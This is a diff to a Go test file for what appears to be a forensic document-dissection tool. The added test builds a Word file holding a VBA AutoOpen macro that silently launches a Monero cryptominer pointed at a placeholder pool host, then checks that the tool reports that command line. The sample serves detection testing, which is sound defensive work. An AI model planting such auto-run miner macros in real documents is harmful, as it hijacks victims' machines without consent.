@@ -13,6 +13,7 @@ import (
 	"lamproom/dissection"
 	"lamproom/dissection/compound"
 	"lamproom/dissection/dissectiontest"
+	"lamproom/dissection/text"
 	"lamproom/evidence"
 	"lamproom/format/cfb/cfbtest"
 	"lamproom/format/vba/vbatest"
@@ -114,6 +115,31 @@ func (r *texts) Nest(o evidence.Origin, _ evidence.Locator, src evidence.Source)
 	b, err := io.ReadAll(io.NewSectionReader(src, 0, src.Size()))
 	r.names, r.all = append(r.names, o.Member+": "+o.Recipe), append(r.all, string(b))
 	return err
+}
+
+// The layer is read as a macro: what it starts is stated where it stands.
+func TestMacroIsRead(t *testing.T) {
+	const run = "host.exe -o pool.example.org:3333 -u worker -p x -k --coin monero"
+	data := word(vbatest.Module{Name: "Module1", Source: "Attribute VB_Name = \"Module1\"\r\nSub AutoOpen()\r\n  Shell \"" + run + "\", 0\r\nEnd Sub\r\n"})
+	o := &stated{}
+	w := dissection.Walker{Dissectors: []dissection.Dissector{compound.New(), text.New(), text.NewData()}, Budget: dissection.DefaultBudget()}
+	if err := w.Walk(t.Context(), &evidence.Evidence{Name: "a.doc"}, bytes.NewReader(data), o); err != nil {
+		t.Fatal(err)
+	}
+	if want := "a.doc!Macros/VBA/Module1.bas vba script: host.exe pool.example.org:3333"; !slices.Contains(o.lines, want) {
+		t.Errorf("no %q in %q", want, o.lines)
+	}
+}
+
+// stated collects what is stated.
+type stated struct{ output }
+
+func (s *stated) Observe(o observation.Observation) error {
+	if c, ok := o.Fact.(observation.CommandLine); ok && len(c.Argv) > 2 {
+		e := o.Where.Evidence
+		s.lines = append(s.lines, fmt.Sprintf("%s %s %s: %s %s", e.Name, e.Kind, c.Setting, c.Argv[0].Text, c.Argv[2].Text))
+	}
+	return nil
 }
 
 func TestPieces(t *testing.T) {
